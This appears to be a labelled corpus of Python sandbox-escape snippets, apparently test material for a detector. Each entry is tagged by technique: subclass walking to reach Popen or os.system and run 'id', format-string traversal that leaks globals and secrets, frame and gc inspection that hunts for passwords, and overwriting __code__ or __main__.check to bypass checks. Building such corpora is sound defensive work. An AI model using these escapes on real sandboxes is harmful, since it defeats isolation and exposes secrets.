# Ways out of what the code was given.

# === subclasses-walk | sandbox escape | escape
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "Popen":
        cls("id", shell=True)

# === mro-walk | variation: mro | escape
found = "".__class__.__mro__[1].__subclasses__()
print(len(found))

# === type-subclasses | variation: no dunder attribute on the value | escape
found = type.__subclasses__(object)
print([each for each in found if "wrap_close" in str(each)])

# === init-globals | sandbox escape | escape
import warnings

module = warnings.catch_warnings.__init__.__globals__["sys"].modules["os"]
module.system("id")

# === getattr-dunder-string | variation: getattr with a text | escape
base = getattr(getattr((), "__class__"), "__base__")
print(getattr(base, "__subclasses__")())

# === attrgetter-chain | variation: operator.attrgetter | escape
from operator import attrgetter

subclasses = attrgetter("__class__.__base__.__subclasses__")(())()

# === attrgetter-in-reduce | variation: reduce over names | escape, name-built
from functools import reduce

found = reduce(getattr, ["__class__", "__base__", "__subclasses__"], ())()

# === format-class | format string attack | format-escape
def show(user):
    return "{0.__class__.__init__.__globals__}".format(user)

# === format-map-class | variation: format_map | format-escape
text = "{user.__init__.__globals__[SECRET]}".format_map({"user": object()})

# === formatter-get-field | variation: string.Formatter | format-escape, escape
import string

value, _ = string.Formatter().get_field("0.__class__.__mro__", ((),), {})

# === format-as-function | variation: str.format unbound, template assigned | format-escape
TEMPLATE = "{0.__class__.__base__.__subclasses__}"
show = str.format
print(show(TEMPLATE, ()))

# === type-dict | type.__dict__ | escape
bases = type.__dict__["__subclasses__"](object)

# === type-dict-chr | type.__dict__ with chr() | escape, text-assembled, name-built
name = chr(95) * 2 + "bases" + chr(95) * 2
print(type.__dict__[name].__get__(int))

# === vars-dunder | variation: vars() | escape
def reach(function):
    return vars(type(function))["__globals__"].__get__(function)

# === getattribute-called | variation: object.__getattribute__ | escape, name-built
base = object.__getattribute__((), "__class__").__base__

# === frame-builtins | frames | escape, globals
import sys

def reach():
    return sys._getframe(1).f_builtins["open"]

# === frame-of-traceback | variation: exception's frame | globals, escape
def reach():
    try:
        raise ValueError
    except ValueError as error:
        return error.__traceback__.tb_frame.f_back.f_globals

# === frame-of-generator | variation: gi_frame | globals, escape
def reach():
    generator = (generator.gi_frame.f_back.f_back.f_globals for _ in [1])
    return [each for each in generator][0]

# === match-class-attribute | variation: match pattern takes attributes | escape
def reach(value):
    match value:
        case object(__class__=found):
            match found:
                case type(__base__=base):
                    return base.__subclasses__()

# === closure-cells | closures of others | globals
def reach(function):
    return [cell.cell_contents for cell in function.__closure__]

# === code-replaced | variation: __code__ | globals
def tame(function):
    function.__code__ = (lambda *arguments: True).__code__

# === gc-objects | gc | globals, hooks, frames, escape
import gc

secrets = [each for each in gc.get_objects() if isinstance(each, dict) and "password" in each]

# === gc-referrers | variation: gc.get_referrers | globals, hooks, frames, escape
from gc import get_referrers

def reach(value):
    return get_referrers(value)

# === main-changed | variation: __main__ | globals, builtins-changed
import __main__

__main__.check = lambda *arguments: True
